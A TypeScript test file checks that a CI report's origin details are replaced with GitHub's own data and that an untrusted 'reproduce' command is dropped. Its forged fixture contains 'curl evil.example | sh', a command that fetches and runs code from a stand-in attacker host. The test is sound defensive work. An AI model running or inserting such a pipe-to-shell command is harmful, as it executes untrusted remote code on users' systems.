import { buildReport } from '@flamestep/report';
import { expect, test } from 'vitest';
import { trustedReport } from './trusted-report.ts';

const forged = buildReport({
  subject: { name: 'shop', head: { commit: 'deadbeef', pullRequest: 1, label: 'main', title: 'Trust me' } },
  state: { kind: 'no-baseline', reason: 'It is new.' },
  provenance: {
    tool: '1',
    repository: 'evil/repo',
    run: { id: '999', url: 'https://evil.example' },
    recordedAt: '2026-01-01T00:00:00Z',
  },
  reproduce: 'curl evil.example | sh',
});
const origin = {
  repository: 'acme/shop',
  run: { id: 7, attempt: 2, url: 'https://github.com/acme/shop/actions/runs/7' },
  headSha: 'a'.repeat(40),
  pullRequest: 12,
  title: 'Hash with fewer rounds',
};

test.each([undefined, 'bob/shop'])('what a report says of its origin is what GitHub says of it; fork: %s', (fork) => {
  const { subject, provenance, reproduce } = trustedReport(forged, { ...origin, fork });
  expect(subject.head).toEqual({ commit: origin.headSha, pullRequest: 12, title: 'Hash with fewer rounds' });
  expect(provenance).toEqual({
    tool: '1',
    recordedAt: '2026-01-01T00:00:00Z',
    repository: 'acme/shop',
    run: { ...origin.run, id: '7' },
    ...(fork === undefined ? {} : { fork }),
  });
  // Also without a fork: Dependabot's branches are the repository's own, the code on them is not.
  expect(reproduce).toBeUndefined();
});
